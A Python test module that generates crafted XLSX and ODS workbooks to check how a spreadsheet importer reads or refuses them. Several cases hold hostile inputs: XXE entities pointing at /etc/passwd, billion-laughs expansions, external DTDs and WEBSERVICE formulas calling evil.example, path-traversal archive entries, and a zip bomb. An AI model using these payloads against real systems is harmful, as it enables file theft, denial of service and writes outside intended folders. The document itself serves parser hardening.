"""Workbooks made by hand: cells that are not where or what they say, parts that lead elsewhere, sheets without end."""

import io
import zipfile
from collections.abc import Iterator
from typing import Any

from .cases import INJECTIONS, Case, refused, right
from .packages import ods_cell, ods_content, ods_parts, packed, row, said, sheet, xlsx_parts

HEAD = row(1, "id", "q")
TEXTS = {"line ends": "a\nb", "another script": "עברית 日本 🚲", "joiners": "a\u200d\u200bb", "looks like a number": "1e5", "leading noughts": "007", "nothing": "NaN", "decimal comma": "1,5"}  # fmt: skip


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\n", "&#10;")


def _second(*cells: str):
    """Say whether the second row of the one sheet is this."""
    return lambda value: next(iter(value.values()))[1] == list(cells)


def _xlsx(cells: str, more: str = "", strings: str = "<si><t>shared</t></si>") -> bytes:
    return packed(xlsx_parts(sheet(f'{HEAD}<row r="2">{cells}</row>', more), strings=strings))


def _xlsx_cells() -> Iterator[Case]:
    for how, text in {**INJECTIONS, **TEXTS}.items():
        yield right("xlsx", f"a text: {how}", _xlsx(said("A2", _escaped(text))), _second(text, ""))
    read = {
        "a shared text": ('<c r="A2" t="s"><v>0</v></c>', "shared", ""),
        "a number": ('<c r="A2"><v>12</v></c><c r="B2"><v>0.1</v></c>', "12", "0.1"),
        "a number with a blank": ('<c r="A2"><v> 12 </v></c>', "12", ""),
        "a number with an exponent": ('<c r="A2"><v>1.5E3</v></c><c r="B2"><v>1e-7</v></c>', "1500", "0.0000001"),
        "sixteen digits": ('<c r="A2"><v>0.30000000000000004</v></c>', "0.30000000000000004", ""),
        "minus nought": ('<c r="A2"><v>-0</v></c>', "0", ""),
        "digits that are no number": ('<c r="A2"><v>1_000</v></c><c r="B2"><v>0x10</v></c>', "1_000", "0x10"),
        "a comma": ('<c r="A2"><v>1,5</v></c>', "1,5", ""),
        "more than any number": ('<c r="A2"><v>1e400</v></c>', "Infinity", ""),
        "logical": ('<c r="A2" t="b"><v>1</v></c><c r="B2" t="b"><v>0</v></c>', "true", "false"),
        "an error": ('<c r="A2" t="e"><v>#REF!</v></c>', "#REF!", ""),
        "references to characters": ('<c r="A2" t="str"><v>&#65;&amp;&#x42;</v></c>', "A&B", ""),
        "pieces of a text": ('<c r="A2" t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r></is></c>', "ab", ""),
        "how a text is pronounced": ('<c r="A2" t="inlineStr"><is><t>a</t><rPh><t>X</t></rPh></is></c>', "a", ""),
        "a comment within": ('<c r="A2" t="str"><v>a<!-- x -->b</v></c>', "ab", ""),
        "cells without an address": ("<c><v>5</v></c><c><v>6</v></c>", "5", "6"),
        "a formula and its value": ('<c r="A2"><f>WEBSERVICE("http://evil.example")</f><v>5</v></c>', "5", ""),
        "a day that is none": ('<c r="A2" t="d"><v>2020-02-30</v></c>', "2020-02-30", ""),
        "an empty cell far away": ('<c r="A2"><v>1</v></c><c r="XFD2"/>', "1", ""),
    }
    for how, (cells, *expected) in read.items():
        yield right("xlsx", f"a cell: {how}", _xlsx(cells), _second(*expected))
    damaged = {
        "a shared text that is not there": '<c r="A2" t="s"><v>99</v></c>', "a shared text before the first": '<c r="A2" t="s"><v>-1</v></c>',
        "a shared text by a word": '<c r="A2" t="s"><v>abc</v></c>', "a shared text by nothing": '<c r="A2" t="s"><v></v></c>',
        "a shared text in Arabic digits": '<c r="A2" t="s"><v>٠</v></c>', "neither true nor false": '<c r="A2" t="b"><v>2</v></c>',
        "an unknown type": '<c r="A2" t="zz"><v>5</v></c>', "twice": '<c r="A2"><v>5</v></c><c r="A2"><v>6</v></c>',
        "out of order": '<c r="B2"><v>5</v></c><c r="A2"><v>6</v></c>', "small letters": '<c r="a2"><v>5</v></c>',
        "an absolute address": '<c r="$A$2"><v>5</v></c>', "no row": '<c r="A"><v>5</v></c>', "row 0": '<c r="A0"><v>5</v></c>',
        "four letters": '<c r="AAAA2"><v>5</v></c>', "two values": '<c r="A2"><v>5</v><v>6</v></c>',
        "a value and a text": '<c r="A2" t="inlineStr"><v>5</v><is><t>x</t></is></c>', "a cell in a cell": '<c r="A2"><c r="B2"><v>5</v></c></c>',
        "CDATA": '<c r="A2" t="str"><v><![CDATA[=1]]></v></c>', "an unknown entity": '<c r="A2" t="str"><v>&foo;</v></c>',
        "a text outside its place": '<c r="A2" t="inlineStr"><t>x</t></c>',
    }  # fmt: skip
    for how, cells in damaged.items():
        yield refused("xlsx", f"a cell: {how}", _xlsx(cells), "export-damaged")
    yield refused("xlsx", "a cell: an escaped NUL", _xlsx(said("A2", "a_x0000_b")), "export-nul", at=2)
    yield refused("xlsx", "a cell: a megabyte", _xlsx(said("A2", "x" * 1_000_001)), "export-overlong-cell", at=2)


def _xlsx_sheets() -> Iterator[Case]:
    far = {
        "a value": '<c r="XFD1048576"><v>1</v></c>', "an empty value": '<c r="XFD1048576"><v/></c>', "an empty text": '<c r="XFD1048576" t="inlineStr"><is/></c>',
        "down": '<c r="A1048576"><v>1</v></c><c r="B1048576"><v>1</v></c>', "spread": '<c r="ALL5000"><v>1</v></c>', "beyond the last row": '<c r="A99999999"><v>1</v></c>',
    }  # fmt: skip
    for how, cells in far.items():
        yield refused(
            "xlsx", f"far away: {how}", packed(xlsx_parts(sheet(f"{HEAD}<row>{cells}</row>"))), "export-too-many-cells"
        )
    yield refused(
        "xlsx", "far away: beyond the last column", _xlsx('<c r="XFE2"><v>1</v></c>'), "export-too-many-columns"
    )
    for how, more in {"overlapping": '<mergeCell ref="A1:B2"/><mergeCell ref="B1:C3"/>', "twice": '<mergeCell ref="A2:B2"/><mergeCell ref="A2:B2"/>', "without a row": '<mergeCell ref="ZZZZ1:A0"/>'}.items():  # fmt: skip
        yield refused(
            "xlsx",
            f"merged: {how}",
            _xlsx(said("A2", "a") + said("B2", "b"), f"<mergeCells>{more}</mergeCells>"),
            "export-damaged",
        )
    yield right(
        "xlsx",
        "merged: all there is",
        _xlsx(said("A2", "a"), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        _second("a", ""),
    )
    whole = sheet(HEAD + row(2, "a", "b"))
    yield right(
        "xlsx",
        "a sheet that says it is large",
        packed(xlsx_parts(whole.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'))),
        _second("a", "b"),
    )
    yield right(
        "xlsx",
        "a sheet that says it is small",
        packed(xlsx_parts(whole.replace("<sheetData>", '<dimension ref="A1"/><sheetData>'))),
        _second("a", "b"),
    )
    yield right(
        "xlsx",
        "all columns hidden, and more",
        packed(
            xlsx_parts(
                whole.replace("<sheetData>", '<cols><col min="1" max="999999999" hidden="1"/></cols><sheetData>')
            )
        ),
        _second("a", "b"),
    )
    yield right(
        "xlsx",
        "names with a prefix",
        packed(xlsx_parts(whole.replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x="))),
        _second("a", "b"),
    )
    for how, xml in {"two roots": whole + whole, "not closed": whole[:-5], "not UTF-8": whole.encode().replace(b">a<", b">\xff<"), "UTF-16": ('<?xml version="1.0" encoding="UTF-16"?>' + whole).encode("utf-16"), "rows twice": sheet(HEAD + row(2, "a") + row(2, "b")), "rows out of order": sheet(row(3, "c") + HEAD), "no XML": "id;q", "entities": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + whole.replace(">a<", ">&a;<"), "a bomb": "<!DOCTYPE x [" + "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "x"}">' for i in range(10)) + "]>" + whole.replace(">a<", ">&e9;<"), "an external subset": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + whole}.items():  # fmt: skip
        yield refused("xlsx", f"a sheet: {how}", packed(xlsx_parts(xml)), "export-damaged")
    yield refused("xlsx", "a sheet: empty", packed(xlsx_parts(sheet(""))), "export-without-cells")


def _xlsx_package() -> Iterator[Case]:
    def parts(**changed: Any) -> dict[str, Any]:
        made = xlsx_parts(sheet(HEAD + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), strings="<si><t>a</t></si>")
        for name, change in changed.items():
            key = {
                "workbook": "xl/workbook.xml",
                "relations": "xl/_rels/workbook.xml.rels",
                "strings": "xl/sharedStrings.xml",
                "sheet": "xl/worksheets/sheet1.xml",
            }[name]
            made[key] = change(made[key])
        return made

    doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    target = "worksheets/sheet1.xml"
    damaged = {
        "shared texts with entities": parts(strings=lambda text: doctype + text.replace(">a<", ">&a;<")),
        "shared texts of an unknown entity": parts(strings=lambda text: text.replace(">a<", ">&a;<")),
        "a workbook with entities": parts(workbook=lambda text: doctype + text),
        "relations with entities": parts(relations=lambda text: doctype + text),
        "a sheet upwards": parts(relations=lambda text: text.replace(target, "../../../../etc/passwd")),
        "a sheet on the disk": parts(relations=lambda text: text.replace(target, "/etc/passwd")),
        "a sheet elsewhere": parts(relations=lambda text: text.replace(f'Target="{target}"', 'Target="file:///etc/passwd" TargetMode="External"')),
        "a sheet on the web": parts(relations=lambda text: text.replace(f'Target="{target}"', 'Target="http://evil.example/" TargetMode="External"')),
        "no relations": {name: content for name, content in parts().items() if not name.endswith("workbook.xml.rels")},
        "no sheet": {name: content for name, content in parts().items() if "sheet1" not in name},
        "a part by another case": {**parts(), "XL/Workbook.xml": "x"},
        "a part by another slash": {**parts(), "xl\\workbook.xml": "x"},
    }  # fmt: skip
    for how, held in damaged.items():
        yield refused("xlsx", f"package: {how}", packed(held), "export-damaged")
    yield refused(
        "xlsx",
        "package: two sheets of a name",
        packed(xlsx_parts(sheet(HEAD), sheet(row(1, "x", "y")), names=("A", "A"))),
        "export-damaged",
    )
    yield refused("xlsx", "package: a part twice", packed(parts(), doubled={"xl/workbook.xml": "x"}), "export-damaged")
    yield right(
        "xlsx",
        "package: parts that lead outside",
        packed({**parts(), "../../evil": "x", "/etc/cron.d/evil": "x", "C:\\evil": "x"}),
        _second("a", ""),
    )
    yield right(
        "xlsx",
        "package: pieces of shared text",
        packed(parts(strings=lambda text: text.replace("<t>a</t>", "<r><t>a</t></r><r><t><![CDATA[<b>]]></t></r>"))),
        _second("a<b>", ""),
    )
    yield right(
        "xlsx",
        "package: the name of a sheet",
        packed(xlsx_parts(sheet(HEAD), names=("&lt;b&gt;../../x",))),
        lambda value: list(value) == ["<b>../../x"],
    )
    sound = packed(parts())
    for how, data in {"cut": sound[: len(sound) // 2], "without its end": sound[:-22], "a byte changed": sound[:60] + bytes([sound[60] ^ 0xFF]) + sound[61:], "a beginning alone": b"PK\x03\x04" + b"x" * 100}.items():  # fmt: skip
        yield refused("xlsx", f"package: {how}", data, "export-damaged")
    yield refused("xlsx", "package: no workbook", packed({"a.txt": "x"}), "export-is-an-archive")
    yield refused("xlsx", "package: a document", packed({"word/document.xml": "x"}), "export-is-no-table")
    yield refused("xlsx", "package: a binary workbook", packed({"xl/workbook.bin": "x"}), "export-other-spreadsheet")
    yield refused("xlsx", "package: Numbers", packed({"Index/Document.iwa": "x"}), "export-other-spreadsheet")
    for how, start in {"nothing after": b"", "noughts after": bytes(2000), "ones after": b"\xff" * 2000}.items():
        yield refused(
            "xlsx", f"package: an old one, {how}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + start, "export-damaged"
        )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        archive.writestr(zipfile.ZipInfo("xl/media/x.bin"), bytes(12 * 2**20), zipfile.ZIP_DEFLATED)
    yield refused("xlsx", "package: a bomb", out.getvalue(), "export-zip-bomb")
    lying = bytearray(sound)
    for at in range(len(lying) - 4):  # every flag: a password
        if lying[at : at + 4] == b"PK\x01\x02":
            lying[at + 8] |= 1
    yield refused("xlsx", "package: a password", bytes(lying), "export-password")


def _row(*cells: str) -> str:
    return f"<table:table-row>{''.join(cells)}</table:table-row>"


ODS_HEAD = _row(ods_cell("id"), ods_cell("q"))


def _ods(rows: str, **more: str) -> bytes:
    return packed(ods_parts(ods_content(ODS_HEAD + rows, **more)))


def _typed(kind: str, value: str = "", text: str = "x", more: str = "") -> str:
    return f'<table:table-cell office:value-type="{kind}" {value} {more}><text:p>{text}</text:p></table:table-cell>'


def _ods_cells() -> Iterator[Case]:
    for how, text in {**INJECTIONS, **TEXTS}.items():
        if how != "line ends":
            yield right(
                "ods", f"a text: {how}", _ods(_row(ods_cell("a"), ods_cell(_escaped(text)))), _second("a", text)
            )
    read = {
        "a number": (_typed("float", 'office:value="12.5"'), "12.5"), "what is shown is not the value": (_typed("float", 'office:value="5"', "6"), "5"),
        "a percentage": (_typed("percentage", 'office:value="0.5"', "50 %"), "0.5"), "money": (_typed("currency", 'office:value="12"', "12 €"), "12"),
        "logical": (_typed("boolean", 'office:boolean-value="true"', "VRAI"), "true"), "a day": (_typed("date", 'office:date-value="2020-02-28"'), "2020-02-28"),
        "two paragraphs": (ods_cell("a</text:p><text:p>b"), "a\nb"), "pieces": (ods_cell("a<text:span>b</text:span>c"), "abc"), "blanks": (ods_cell('a<text:s text:c="3"/>b'), "a   b"),
        "a comment of XML": (ods_cell("a<!-- x -->b"), "ab"), "a note": (ods_cell("a<office:annotation><text:p>note</text:p></office:annotation>b"), "ab"),
        "a formula and its value": (_typed("float", 'office:value="5"', "5", 'table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"'), "5"),
        "a value behind the text": (ods_cell("shown", 'office:string-value="held"'), "held"),
    }  # fmt: skip
    for how, (cell, expected) in read.items():
        yield right("ods", f"a cell: {how}", _ods(_row(ods_cell("a"), cell)), _second("a", expected))
    damaged = {
        "no number": _typed("float", 'office:value="NaN"'), "a word": _typed("float", 'office:value="abc"'), "a comma": _typed("float", 'office:value="1,5"'),
        "underscore": _typed("float", 'office:value="1_0"'), "Arabic digits": _typed("float", 'office:value="١"'), "an empty number": _typed("float", 'office:value=""'),
        "a number without its value": _typed("float"), "a text without a type": "<table:table-cell><text:p>7</text:p></table:table-cell>",
        "an unknown type": _typed("zz", 'office:value="3"'), "neither true nor false": _typed("boolean", 'office:boolean-value="maybe"'),
        "no day": _typed("date", 'office:date-value="nope"'), "a day without its value": _typed("date"), "no time": _typed("time", 'office:time-value="12:00"'),
        "CDATA": ods_cell("<![CDATA[x]]>"), "an unknown entity": ods_cell("&foo;"), "a billion blanks": ods_cell('a<text:s text:c="2000000000"/>b'),
        "blanks in words": ods_cell('a<text:s text:c="many"/>b'), "a table within": f'<table:table-cell office:value-type="string"><table:table table:name="T">{_row(ods_cell("n"))}</table:table></table:table-cell>',
    }  # fmt: skip
    for how, cell in damaged.items():
        yield refused("ods", f"a cell: {how}", _ods(_row(ods_cell("a"), cell)), "export-damaged")
    for how, count in {
        "nought": "0",
        "negative": "-3",
        "a word": "x",
        "underscore": "1_0",
        "a fraction": "1.5",
    }.items():
        yield refused(
            "ods",
            f"repeated columns: {how}",
            _ods(_row(ods_cell("a", f'table:number-columns-repeated="{count}"'), ods_cell("x"))),
            "export-damaged",
        )
    for how, count in {"nought": "0", "negative": "-1"}.items():
        yield refused(
            "ods",
            f"repeated rows: {how}",
            _ods(f'<table:table-row table:number-rows-repeated="{count}">{ods_cell("a")}</table:table-row>'),
            "export-damaged",
        )
    for how, count in {
        "eleven digits": "99999999999",
        "beyond 32 bits": "4294967297",
        "a column too many": "16385",
    }.items():
        yield refused(
            "ods",
            f"repeated columns: {how}",
            _ods(_row(ods_cell("a", f'table:number-columns-repeated="{count}"'))),
            "export-too-many-columns",
        )
    for how, (down, across) in {
        "a sheet of one word": (1048570, 1),
        "a block": (6000, 16000),
        "blanks of a block": (70, 16000),
    }.items():
        cell = ods_cell("v" + ('<text:s text:c="900"/>' * (down == 70)), f'table:number-columns-repeated="{across}"')
        yield refused(
            "ods",
            f"repeated: {how}",
            _ods(f'<table:table-row table:number-rows-repeated="{down}">{cell}{cell}</table:table-row>'),
            "export-too-many-columns" if across * 2 > 16384 else "export-too-many-cells",
        )
    yield right(
        "ods",
        "repeated: a row three times",
        _ods(f'<table:table-row table:number-rows-repeated="3">{ods_cell("x")}{ods_cell("y")}</table:table-row>'),
        lambda value: value["S"][1:] == [["x", "y"]] * 3,
    )
    yield right(
        "ods",
        "repeated: emptiness without end",
        _ods(
            _row(ods_cell("x"))
            + '<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        ),
        _second("x", ""),
    )


def _ods_package() -> Iterator[Case]:
    whole = ods_content(ODS_HEAD + _row(ods_cell("a"), ods_cell("b")))
    doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    bomb = "<!DOCTYPE x [" + "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "x"}">' for i in range(10)) + "]>"
    for how, xml in {"entities": doctype + whole.replace(">a<", ">&a;<"), "a bomb": bomb + whole.replace(">a<", ">&e9;<"), "an external subset": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + whole, "two roots": whole + whole, "not closed": whole[:-5], "not UTF-8": whole.encode().replace(b">a<", b">\xff<"), "no XML": "id;q", "two sheets of a name": whole.replace("</table:table>", f'</table:table><table:table table:name="S">{ODS_HEAD}</table:table>')}.items():  # fmt: skip
        yield refused("ods", f"its content: {how}", packed(ods_parts(xml)), "export-damaged")
    yield refused("ods", "its content: nothing", packed(ods_parts(ods_content(""))), "export-without-cells")
    yield refused(
        "ods",
        "package: no content",
        packed({name: part for name, part in ods_parts(whole).items() if name != "content.xml"}),
        "export-damaged",
    )
    yield refused(
        "ods", "package: content twice", packed(ods_parts(whole), doubled={"Content.xml": whole}), "export-damaged"
    )
    yield refused(
        "ods",
        "package: a password",
        packed({**ods_parts(whole), "META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
        "export-password",
    )
    yield refused(
        "ods",
        "package: a text document",
        packed({**ods_parts(whole), "mimetype": "application/vnd.oasis.opendocument.text"}),
        "export-is-no-table",
    )
    yield right(
        "ods",
        "package: parts that lead outside",
        packed({**ods_parts(whole), "../../evil": "x", "/etc/evil": "x"}),
        _second("a", "b"),
    )
    yield right(
        "ods",
        "package: the name of a sheet",
        packed(ods_parts(ods_content(ODS_HEAD, name="../../&lt;b&gt;"))),
        lambda value: list(value) == ["../../<b>"],
    )


def cases() -> Iterator[Case]:
    yield from _xlsx_cells()
    yield from _xlsx_sheets()
    yield from _xlsx_package()
    yield from _ods_cells()
    yield from _ods_package()
